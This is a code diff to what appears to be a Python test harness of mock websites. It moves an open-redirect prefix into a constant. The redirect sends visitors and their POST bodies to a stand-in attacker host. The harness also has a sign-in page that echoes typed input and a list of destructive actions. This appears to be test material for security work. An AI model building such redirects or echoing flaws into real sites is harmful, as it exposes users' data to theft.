@@ -23,6 +23,9 @@ CONTROLS = """
 <label>Attachment <input type=file name=f></label><button>Upload</button></form>
 <form method=post action=/delete><button>Delete account</button></form>
 """
+PASSING_ON = (
+    "/jump"  # addresses of the work site that send whoever asks, and what they bring, to the attacker
+)
 FOR_GOOD = ("/delete", "/pay", "/publish", "/account")
 
 
@@ -94,7 +97,7 @@ class Sites:
                 path = urlsplit(self.path).path
                 if path == "/favicon.ico":
                     self._answer(404, "")
-                elif path.startswith("/jump"):
+                elif path.startswith(PASSING_ON):
                     self._answer(302, "", f"{sites.evil}/from{self.path}")
                 elif path.startswith("/files/"):
                     self._answer(200, sites.body, kind="text/plain")
@@ -104,7 +107,7 @@ class Sites:
             def do_POST(self) -> None:
                 body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode(errors="replace")
                 self._note(body)
-                if self.path.startswith("/jump"):
+                if self.path.startswith(PASSING_ON):
                     self._answer(307, "", f"{sites.evil}/from{self.path}")
                 elif self.path == "/signin":  # a careless site: it shows what was typed, everywhere
                     typed = unquote_plus(body.partition("=")[2])
